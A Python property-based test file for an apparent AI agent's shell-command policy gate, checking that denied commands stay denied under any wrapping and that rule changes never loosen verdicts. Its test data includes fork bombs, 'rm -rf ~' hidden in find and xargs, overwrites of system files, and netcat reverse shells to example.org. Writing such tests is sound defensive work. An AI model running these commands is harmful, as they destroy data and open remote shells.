"""What holds of every verdict, whatever the command is put into.

Commands come from the examples of the shipped rules; `make fuzz` tries many more
combinations than the suite does.
"""

import shlex
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from linara_agent.core.decision import Decision
from linara_agent.core.effects.effect import EffectKind, PathClass
from linara_agent.core.policy.match import Policy
from linara_agent.core.policy.policy_file import PlacedRule
from linara_agent.core.policy.rule import Rule
from linara_agent.rulebook import load_policy
from tests.core.gates import PLACE, assess, decision, gate, gate_with
from tests.core.wrappings import (
    ALL,
    DENIED,
    OTHERS,
    SAME,
    SHIPPED_RULES,
    wrapped,
)

PATIENT = settings(
    max_examples=settings.default.max_examples // 2 if settings.default else 50,
    suppress_health_check=[HealthCheck.too_slow],
)
GLOBS = ("/", "~", "/etc/**", "/tmp/**", "$WORKSPACE/**", "**/x", "~/[*]", "/home/u/*")


@PATIENT
@given(pair=wrapped(DENIED))
def test_what_is_denied_stays_denied_in_whatever_runs_it(pair: tuple[str, str]) -> None:
    """No wrapper, pipeline, list, function, substitution or nested shell hides it."""
    assert assess(pair[1]).decision is Decision.DENY


@pytest.mark.parametrize("command", DENIED)
def test_what_is_denied_stays_denied_when_it_is_printed_into_a_shell(
    command: str,
) -> None:
    """What is certain to come out of a pipe is judged as what the shell runs."""
    assert decision(f"printf %s {shlex.quote(command)} | sh") == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "( :(){ :|:& };: )",
        "true && { b(){ b|b& };b; }",
        "xargs cp x /usr/bin/x",
        "find . -exec sh -c 'rm -rf ~; echo {}' \\;",
        "xargs -I% sh -c 'rm -rf ~; echo %'",
        "patch -o passwd -d /etc",
        "nc -c/bin/sh example.org 4444",
        "nc -nve/bin/sh example.org 4444",
    ],
)
def test_what_such_properties_found_stays_denied(command: str) -> None:
    """Each of these was once judged milder than what it does."""
    assert decision(command) == "deny"


@PATIENT
@given(pair=wrapped(OTHERS))
def test_no_wrapping_makes_a_verdict_milder(pair: tuple[str, str]) -> None:
    """What runs a command is judged at least as strictly as the command."""
    command, text = pair
    assert assess(text).decision >= assess(command).decision


@PATIENT
@given(pair=wrapped(OTHERS, SAME))
def test_structure_alone_changes_no_verdict(pair: tuple[str, str]) -> None:
    """A group, branch, loop or pipeline is no better and no worse than what it runs."""
    command, text = pair
    assert assess(text).decision == assess(command).decision


@PATIENT
@given(pairs=st.lists(wrapped((*DENIED, *OTHERS)), min_size=2, max_size=3))
def test_a_script_is_as_bad_as_its_worst_command(
    pairs: list[tuple[str, str]],
) -> None:
    """Commands in a row are judged at least as strictly as each of them."""
    texts = [text for _, text in pairs]
    worst = max(assess(command).decision for command, _ in pairs)
    assert assess("\n".join(texts)).decision >= worst


@st.composite
def rules(draw: st.DrawFn, decision: Decision) -> Rule:
    """Any rule with that decision, over effects or programs."""
    keys: dict[str, object] = {
        "effect": draw(st.lists(st.sampled_from(EffectKind), max_size=3)),
        "class": draw(st.lists(st.sampled_from(PathClass), max_size=2)),
        "path": draw(st.lists(st.sampled_from(GLOBS), max_size=2)),
        "program": draw(st.lists(st.sampled_from(("rm", "ls", "sh", "cp")))),
        "certainty": draw(st.lists(st.sampled_from(("certain", "possible")))),
        "words": draw(st.lists(st.sampled_from(("-.*", ".*x.*", "/.*")), max_size=1)),
    }
    if not keys["effect"] and not keys["program"]:
        keys["effect"] = ["read"]
    given_keys = {name: value for name, value in keys.items() if value}
    return Rule.model_validate(
        {
            "id": "more",
            "decision": decision.word,
            "because": "It is there to see what else changes.",
            **given_keys,
        },
        strict=False,
    )


def with_rule(policy: Policy, rule: Rule, at: int) -> Policy:
    placed = PlacedRule(rule=rule, where="more.toml:1")
    return replace(policy, rules=(*policy.rules[:at], placed, *policy.rules[at:]))


@PATIENT
@given(
    pair=wrapped((*DENIED, *OTHERS)),
    rule=rules(Decision.DENY) | rules(Decision.REVIEW),
    at=st.integers(0, len(SHIPPED_RULES)),
    base=st.sampled_from(("default", "strict", "automation")),
)
def test_one_more_strict_rule_never_loosens(
    pair: tuple[str, str], rule: Rule, at: int, base: str
) -> None:
    """Wherever it stands, it takes no rule's finding away and makes nothing milder."""
    text = pair[1]
    before = assess(text, policy=base)
    # An effect that no rule spoke of is a review; it is never less once one speaks.
    more = gate_with(with_rule(load_policy(base), rule, at)).assess(text, PLACE)[1]
    assert more.decision >= before.decision
    by_rules = {finding for finding in before.findings if finding.where is not None}
    assert by_rules <= set(more.findings)


@PATIENT
@given(pair=wrapped((*DENIED, *OTHERS)), index=st.integers(0, 10_000))
def test_one_allow_rule_less_never_loosens(pair: tuple[str, str], index: int) -> None:
    """What an allow rule allowed is a review without it."""
    policy = load_policy("default")
    allowing = [one for one in policy.rules if one.rule.decision is Decision.ALLOW]
    gone = allowing[index % len(allowing)]
    fewer = tuple(one for one in policy.rules if one is not gone)
    less = gate_with(replace(policy, rules=fewer)).assess(pair[1], PLACE)[1]
    assert less.decision >= assess(pair[1]).decision


PIECES = (
    *("ls", "rm", "-rf", "~", "/", "*", "x", "$x", "${x:-y}", "$(", ")", "`", "'"),
    *('"', "\\", "|", "||", "&", "&&", ";", ";;", "\n", "(", "{", "}", "<", ">", "<<E"),
    *("E", "if", "then", "fi", "for", "in", "do", "done", "case", "esac", "f()", "[["),
    *("]]", "((", "))", "#", "!", "eval", "sh -c", "2>&1", "\0", "\r", "é", "\ud800"),
)


@PATIENT
@given(
    text=st.lists(st.sampled_from(PIECES), max_size=8).map(" ".join)
    | st.lists(st.sampled_from(PIECES), max_size=8).map("".join)
)
@example("")
@example(" ")
@example("#")
def test_every_verdict_has_its_reason(text: str) -> None:
    """It is never empty, it is its strictest finding, and what is unread is no allow.

    Each effect has a finding, and each finding about an effect names one that is.
    """
    script, verdict = gate().assess(text, PLACE)
    assert verdict.findings
    assert verdict.decision == max(one.decision for one in verdict.findings)
    spoken = {one.effect for one in verdict.findings if one.effect is not None}
    assert spoken == set(range(len(verdict.effects)))
    if script.opaque:
        assert verdict.decision > Decision.ALLOW


def test_the_seeds_are_what_they_are_called() -> None:
    """Each denied seed is denied by itself, and of the others none is."""
    assert {assess(one).decision for one in DENIED} == {Decision.DENY}
    assert {assess(one).decision for one in OTHERS} == {
        Decision.ALLOW,
        Decision.REVIEW,
    }
    assert len({one.make("CMD", 0) for one in ALL}) == len(ALL)
